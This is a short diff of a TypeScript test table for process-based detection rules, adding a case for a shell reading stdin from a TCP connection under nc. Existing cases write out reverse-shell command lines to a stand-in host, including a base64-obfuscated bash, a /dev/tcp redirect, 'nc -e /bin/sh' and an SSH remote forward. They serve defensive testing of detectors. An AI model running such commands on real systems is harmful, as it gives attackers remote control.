@@ -29,6 +29,7 @@ const cases: { rule: string; hit: P[]; miss: P[] }[] = [
   { rule: 'pw-reverse-shell-cmdline', hit: [bin('java'), bin('bash', { commandLine: 'bash -c {echo,YmFzaA==}|{base64,-d}|{bash,-i}' })], miss: [bin('make'), bin('bash', { commandLine: 'bash -c echo aGk= | base64 -d > out.txt' })] },
   { rule: 'pw-reverse-shell-cmdline', hit: [bin('cron'), bin('bash', { commandLine: 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1' })], miss: [bin('cron'), bin('bash', { commandLine: 'bash -c cat /dev/null' })] },
   { rule: 'pw-reverse-shell-cmdline', hit: [bin('sh'), bin('nc', { commandLine: 'nc 203.0.113.9 443 -e /bin/sh' })], miss: [bin('sh'), bin('nc', { commandLine: 'nc -zv db 5432' })] },
+  { rule: 'pw-lnx-shell-tcp-stdin', hit: [bin('nc'), bin('sh', { stdin: 'tcp' })], miss: [bin('node'), bin('sh', { stdin: 'socket' })] },
   { rule: 'pw-ssh-remote-forward', hit: [bin('bash'), bin('ssh', { commandLine: 'ssh -N -R 2222:localhost:22 relay@203.0.113.9' })], miss: [bin('bash'), bin('ssh', { commandLine: 'ssh -L 5432:db:5432 bastion' })] },
 ];
 
